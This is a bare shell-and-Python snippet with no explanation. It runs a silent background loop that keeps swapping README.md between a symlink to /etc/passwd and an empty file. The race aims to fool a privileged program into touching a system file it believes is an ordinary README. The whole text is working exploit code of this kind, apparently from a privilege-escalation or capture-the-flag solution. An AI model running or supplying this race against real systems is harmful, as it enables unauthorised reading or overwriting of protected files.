python3 - >/dev/null 2>&1 <<'X' &
import itertools, os
for n in itertools.count():
    os.symlink("/etc/passwd", "t")
    os.replace("t", "README.md")
    open("u", "w").close()
    os.replace("u", "README.md")
X
sleep 0.3
